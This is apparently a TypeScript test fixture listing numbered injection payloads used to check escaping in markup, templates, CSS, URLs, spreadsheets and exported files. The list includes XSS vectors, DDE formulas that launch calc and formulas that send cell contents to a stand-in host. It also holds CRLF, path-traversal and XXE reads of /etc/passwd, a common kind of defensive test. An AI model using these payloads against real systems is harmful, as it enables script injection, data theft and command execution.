/** Texts that are markup, script, style, formula or an end of something to whatever takes them for one. Each is known from the others by its number. */
export interface Bait {
  text: string
  /** True: the bait works only at the beginning of a field. */
  leads?: true
}

/** Whatever becomes an element bears the attribute; whatever runs sets `bitten`; whatever is counted shows PRODUCT. */
export const PRODUCT = '1022117'

const script = [
  '<script>bitten=1</script>',
  '<SCRIPT SRC=//bitten.invalid/a.js></SCRIPT>',
  '<script src=data:text/javascript,bitten=1></script>',
  '"><script>bitten=1</script>',
  "'><script>bitten=1</script>",
  '</script><script>bitten=1</script>',
  '</title><script>bitten=1</script>',
  '</textarea><script>bitten=1</script>',
  '</style><script>bitten=1</script>',
  '</noscript><script>bitten=1</script>',
  '<!--><script>bitten=1</script>-->',
  '<scr<script>ipt>bitten=1</scr</script>ipt>',
  '<script\\x20type="text/javascript">bitten=1</script>',
  '<script/bitten>bitten=1</script>',
  '\\u003cscript\\u003ebitten=1\\u003c/script\\u003e',
  '&lt;script&gt;bitten=1&lt;/script&gt;',
  '&#60;script&#62;bitten=1&#60;/script&#62;',
  '%3Cscript%3Ebitten=1%3C/script%3E',
  '+ADw-script+AD4-bitten=1+ADw-/script+AD4-',
  '<script type=module>import("//bitten.invalid/m.js")</script>',
]
const handlers = [
  '<img data-bitten src=x onerror=bitten=1>',
  '"><img data-bitten src=x onerror=bitten=1>',
  '<img data-bitten src=x onerror="bitten=1"//',
  '<img/data-bitten/src=x/onerror=bitten=1>',
  '<img data-bitten src=http://bitten.invalid/p.png>',
  '<body data-bitten onload=bitten=1>',
  '<iframe data-bitten srcdoc="<script>parent.bitten=1</script>">',
  '<iframe data-bitten src=javascript:parent.bitten=1>',
  '<object data-bitten data=javascript:bitten=1>',
  '<embed data-bitten src=//bitten.invalid/e.swf>',
  '<video data-bitten><source onerror=bitten=1>',
  '<audio data-bitten src=x onerror=bitten=1>',
  '<details data-bitten open ontoggle=bitten=1>',
  '<input data-bitten autofocus onfocus=bitten=1>',
  '<marquee data-bitten onstart=bitten=1>',
  '<a data-bitten href=javascript:bitten=1>щёлк</a>',
  '<form data-bitten action=//bitten.invalid><input type=submit>',
  '<button data-bitten popovertarget=x onbeforetoggle=bitten=1>',
  '<meta data-bitten http-equiv=refresh content="0;url=//bitten.invalid">',
  '<base data-bitten href=//bitten.invalid/>',
  '<link data-bitten rel=stylesheet href=//bitten.invalid/s.css>',
  '<template data-bitten><img src=x onerror=bitten=1></template>',
  '" data-bitten onmouseover=bitten=1 x="',
  "' data-bitten autofocus onfocus=bitten=1 x='",
  '` data-bitten onclick=bitten=1 x=`',
  '<!-- <p data-bitten>',
  '<b data-bitten>жирно</b>',
]
const drawn = [
  '<svg data-bitten onload=bitten=1>',
  '<svg data-bitten><script>bitten=1</script></svg>',
  '<svg data-bitten><script href=data:,bitten=1 /></svg>',
  '<svg data-bitten><animate onbegin=bitten=1 attributeName=x dur=1s>',
  '<svg data-bitten><a xlink:href=javascript:bitten=1><text>щ</text></a></svg>',
  '<svg data-bitten><foreignObject><iframe srcdoc="<script>parent.bitten=1</script>">',
  '<svg data-bitten><use href="data:image/svg+xml,<svg id=x onload=bitten=1>#x">',
  '<svg data-bitten><style><img src=x onerror=bitten=1></style></svg>',
  '<math data-bitten><mi xlink:href="javascript:bitten=1">щ</mi></math>',
  '<math data-bitten><mtext><table><mglyph><style><img src=x onerror=bitten=1>',
  '<xml data-bitten><!ENTITY x SYSTEM "file:///etc/passwd">&x;</xml>',
  '<![CDATA[<img data-bitten src=x onerror=bitten=1>]]>',
]
const templates = [
  '{{1009*1013}}',
  "{{constructor.constructor('bitten=1')()}}",
  '{{$on.constructor("bitten=1")()}}',
  '\u0024{1009*1013}',
  '#{1009*1013}',
  '<%= 1009*1013 %>',
  '{%print(1009*1013)%}',
  '[[1009*1013]]',
  '*{1009*1013}',
  '@(1009*1013)',
  '{{count}} {{name}} {{title}}',
  '{count, plural, one {#} other {#}}',
  '$t(nav.home) %s %d %(name)s {0}',
  "$& $1 $$ $` $'",
  '__proto__ constructor toString',
  "'-(bitten=1)-'",
  '";bitten=1;//',
  '\\";bitten=1;//',
]
const addresses: Bait[] = [
  'javascript:bitten=1//',
  'JaVaScRiPt:bitten=1//',
  'java\tscript:bitten=1//',
  '\u0001javascript:bitten=1//',
  'javascript&colon;bitten=1',
  'javascript://host/%0Abitten=1',
  'vbscript:bitten=1',
  'data:text/html,<script>opener.bitten=1</script>',
  'data:text/html;base64,PHNjcmlwdD5iaXR0ZW49MTwvc2NyaXB0Pg==',
  '//bitten.invalid/x',
  'https://bitten.invalid\\@okno.example/',
].map((text) => ({ text, leads: true }))
const styles = [
  '</style><style data-bitten>*{display:none}</style>',
  'red;background:url(//bitten.invalid/c.png)',
  'expression(bitten=1)',
  '}*{background:url(//bitten.invalid/d.png)}',
  '" style="position:fixed;inset:0" data-bitten="',
  '@import "//bitten.invalid/i.css";',
  '\\65xpression(bitten=1)',
  'url("javascript:bitten=1")',
]
const letters = [
  '\u202Eтевирп\u202C',
  '\u2066\u202E<b data-bitten>\u2069',
  '\u200B<\u200Bscript\u200B>\u200Bbitten=1',
  '＜script＞bitten=1＜/script＞',
  '‹img data-bitten src=x onerror=bitten=1›',
  'ʺ＞<b data-bitten>',
  '\uFEFF<b data-bitten>\uFEFF',
  'Z\u0351\u036B\u0343\u036A\u0302a\u034A\u0306\u0334l\u036Cg\u033Ao\u0321',
  '👩‍👩‍👧‍👦<b data-bitten>🏳️‍🌈',
  '\uD83D\uDE00'.repeat(6),
  'a\u2028bitten=1\u2029b',
  'a\u0085b\u00A0<b data-bitten>',
  '\u0008\u001B[31m\u0007<b data-bitten>',
  '\uFFFE\uFFFF<b data-bitten>',
  '\uDB40\uDC41<b data-bitten>\uDB40\uDC7F',
  'İıſK<ſcript>bitten=1</ſcript>',
]
const formulas: Bait[] = [
  '=1+1',
  "=cmd|'/c calc'!A1",
  '=HYPERLINK("https://bitten.invalid/?"&A1;"щёлк")',
  '=WEBSERVICE("https://bitten.invalid/")',
  '=IMPORTXML(CONCAT("https://bitten.invalid/";A1);"//a")',
  '="bitten"',
  "+1+cmd|'/c calc'!A1",
  "-2+3+cmd|'/c calc'!A1",
  '-(1+1)',
  "@SUM(1+9)*cmd|'/c calc'!A1",
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '{=1+1}',
].map((text) => ({ text, leads: true }))
const files = [
  '";=1+1;"',
  '"";=1+1;""',
  '"\r\n=1+1;"',
  '\r\n=1+1',
  '\n@SUM(1)',
  ';=1+1;',
  '\t=1+1',
  "'=1+1",
  '\\";=1+1',
  '"=1+1"',
  '../../etc/passwd',
  'name"; filename="a.html',
  'a\r\nSet-Cookie: bitten=1',
  '%0D%0ASet-Cookie:%20bitten=1',
  '(/URI (javascript:bitten=1)) >> endobj',
  '\\input{/etc/passwd} \\write18{calc}',
  ']]></t></is></c><c><f>1+1</f></c>',
  '_x003D_1+1 &#61;1+1',
]

/** Signs that end the attribute, comment or element in which a text may be printed, so that what follows would be markup. */
const ends = ['">', "'>", '`>', '-->', ']]>', '</title>', '</style>', '</script>', '</textarea>']
const broken = [...handlers, ...drawn].flatMap((one) => ends.map((end) => `${end}${one}`))

const plain = [...script, ...handlers, ...drawn, ...templates, ...styles, ...letters, ...files, ...broken].map((text): Bait => ({ text }))
/** The baits are numbered at their ends, so that a formula still begins its field. */
export const baits: readonly Bait[] = [...plain, ...addresses, ...formulas].map(({ text, leads }, index) => ({
  text: `${text} №${index + 100}`,
  ...(leads && { leads }),
}))
